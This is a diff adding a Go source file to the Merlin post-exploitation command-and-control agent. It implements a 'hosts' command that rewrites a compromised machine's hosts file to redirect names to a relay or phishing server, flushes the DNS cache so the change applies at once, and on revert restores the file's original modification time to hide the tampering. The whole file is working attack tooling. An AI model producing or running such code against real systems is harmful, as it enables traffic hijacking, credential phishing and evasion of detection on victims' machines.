@@ -0,0 +1,233 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"net"
+	"os"
+	"strings"
+	"sync"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// hostsBackup is the hosts file as it was before the first change so the hosts revert command can restore it. The
+// backup is only held in memory
+var hostsBackup = struct {
+	sync.Mutex
+	data     []byte
+	modified time.Time
+	saved    bool
+}{}
+
+// Hosts views and changes the system hosts file to redirect names, such as to a relay or phishing server. The
+// original file is backed up in memory before the first change and the DNS cache is flushed after every change so it
+// takes effect immediately
+// hosts list [filter]
+// hosts add <ip> <name> [name...]
+// hosts remove <name> [name...]
+// hosts flush
+// hosts revert
+func Hosts(cmd jobs.Command) (results jobs.Results) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Hosts() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		cmd.Args = []string{"list"}
+	}
+	path := hostsPath()
+
+	var err error
+	switch strings.ToLower(cmd.Args[0]) {
+	case "list", "view":
+		results.Stdout, err = hostsList(path, strings.Join(cmd.Args[1:], " "))
+	case "add":
+		if len(cmd.Args) < 3 {
+			results.Stderr = "the hosts add command requires an IP address and at least one name"
+			return
+		}
+		ip := net.ParseIP(cmd.Args[1])
+		if ip == nil {
+			results.Stderr = fmt.Sprintf("%s is not an IP address", cmd.Args[1])
+			return
+		}
+		results.Stdout, err = hostsChange(path, cmd.Args[2:], ip)
+	case "remove", "del", "delete":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the hosts remove command requires at least one name"
+			return
+		}
+		results.Stdout, err = hostsChange(path, cmd.Args[1:], nil)
+	case "flush":
+		results.Stdout, err = flushDNS()
+	case "revert":
+		results.Stdout, err = hostsRevert(path)
+	default:
+		results.Stderr = fmt.Sprintf("unknown hosts command: %s", cmd.Args[0])
+		return
+	}
+	if err != nil {
+		results.Stderr = err.Error()
+	}
+	return
+}
+
+// hostsList returns the entries in the hosts file, without comments, that contain the filter
+func hostsList(path, filter string) (string, error) {
+	data, err := os.ReadFile(path) // #nosec G304 the path is the system hosts file
+	if err != nil {
+		return "", fmt.Errorf("there was an error reading the hosts file %s: %s", path, err)
+	}
+	out := fmt.Sprintf("Hosts file %s\n", path)
+	for _, line := range strings.Split(strings.ReplaceAll(string(data), "\r\n", "\n"), "\n") {
+		entry, _, _ := strings.Cut(line, "#")
+		fields := strings.Fields(entry)
+		if len(fields) < 2 || (filter != "" && !strings.Contains(strings.ToLower(entry), strings.ToLower(filter))) {
+			continue
+		}
+		out += fmt.Sprintf("%s\t%s\n", fields[0], strings.Join(fields[1:], " "))
+	}
+	hostsBackup.Lock()
+	if hostsBackup.saved {
+		out += fmt.Sprintf("A backup from %s is held in memory, restore it with hosts revert\n", hostsBackup.modified.Format(time.RFC3339))
+	}
+	hostsBackup.Unlock()
+	return out, nil
+}
+
+// hostsChange removes the names from every entry in the hosts file and, if ip is not nil, adds an entry mapping the
+// names to it. The file is backed up in memory before it is first changed
+func hostsChange(path string, names []string, ip net.IP) (string, error) {
+	data, err := os.ReadFile(path) // #nosec G304 the path is the system hosts file
+	if err != nil {
+		return "", fmt.Errorf("there was an error reading the hosts file %s: %s", path, err)
+	}
+	info, err := os.Stat(path)
+	if err != nil {
+		return "", fmt.Errorf("there was an error getting information about the hosts file %s: %s", path, err)
+	}
+
+	newline := "\n"
+	if strings.Contains(string(data), "\r\n") {
+		newline = "\r\n"
+	}
+	remove := make(map[string]bool)
+	for _, name := range names {
+		remove[strings.ToLower(name)] = true
+	}
+	var lines []string
+	var removed int
+	for _, line := range strings.Split(strings.TrimRight(strings.ReplaceAll(string(data), "\r\n", "\n"), "\n"), "\n") {
+		entry, comment, commented := strings.Cut(line, "#")
+		fields := strings.Fields(entry)
+		if len(fields) < 2 {
+			lines = append(lines, line)
+			continue
+		}
+		kept := []string{fields[0]}
+		for _, name := range fields[1:] {
+			if remove[strings.ToLower(name)] {
+				removed++
+				continue
+			}
+			kept = append(kept, name)
+		}
+		switch {
+		case len(kept) == len(fields):
+			lines = append(lines, line)
+		case len(kept) > 1 && commented:
+			lines = append(lines, strings.Join(kept, " ")+" #"+comment)
+		case len(kept) > 1:
+			lines = append(lines, strings.Join(kept, " "))
+		}
+	}
+	if ip != nil {
+		lines = append(lines, fmt.Sprintf("%s %s", ip, strings.Join(names, " ")))
+	}
+	if ip == nil && removed == 0 {
+		return "", fmt.Errorf("%s is not in the hosts file", strings.Join(names, ", "))
+	}
+
+	hostsBackup.Lock()
+	if !hostsBackup.saved {
+		hostsBackup.data, hostsBackup.modified, hostsBackup.saved = data, info.ModTime(), true
+	}
+	hostsBackup.Unlock()
+
+	if err = hostsWrite(path, []byte(strings.Join(lines, newline)+newline)); err != nil {
+		return "", err
+	}
+	var out string
+	if removed > 0 {
+		out = fmt.Sprintf("Removed %d existing entries for %s\n", removed, strings.Join(names, ", "))
+	}
+	if ip != nil {
+		out += fmt.Sprintf("Added %s %s\n", ip, strings.Join(names, " "))
+	}
+	return out + hostsFlush(), nil
+}
+
+// hostsRevert restores the hosts file, and its modification time, from the backup taken before the first change
+func hostsRevert(path string) (string, error) {
+	hostsBackup.Lock()
+	defer hostsBackup.Unlock()
+	if !hostsBackup.saved {
+		return "", fmt.Errorf("the hosts file has not been changed")
+	}
+	if err := hostsWrite(path, hostsBackup.data); err != nil {
+		return "", err
+	}
+	out := fmt.Sprintf("Restored the hosts file %s from the backup\n", path)
+	if err := os.Chtimes(path, time.Now(), hostsBackup.modified); err != nil {
+		out += fmt.Sprintf("there was an error restoring the modification time: %s\n", err)
+	}
+	hostsBackup.data, hostsBackup.saved = nil, false
+	return out + hostsFlush(), nil
+}
+
+// hostsWrite overwrites the hosts file in place so its owner and permissions are kept
+func hostsWrite(path string, data []byte) error {
+	f, err := os.OpenFile(path, os.O_WRONLY|os.O_TRUNC, 0) // #nosec G304 the path is the system hosts file
+	if err != nil {
+		return fmt.Errorf("there was an error opening the hosts file %s for writing: %s", path, err)
+	}
+	_, err = f.Write(data)
+	if e := f.Close(); err == nil {
+		err = e
+	}
+	if err != nil {
+		return fmt.Errorf("there was an error writing the hosts file %s: %s", path, err)
+	}
+	return nil
+}
+
+// hostsFlush flushes the DNS cache after the hosts file changes and returns the result to include in the output
+func hostsFlush() string {
+	out, err := flushDNS()
+	if err != nil {
+		return fmt.Sprintf("the hosts file was changed but there was an error flushing the DNS cache: %s\n", err)
+	}
+	return out
+}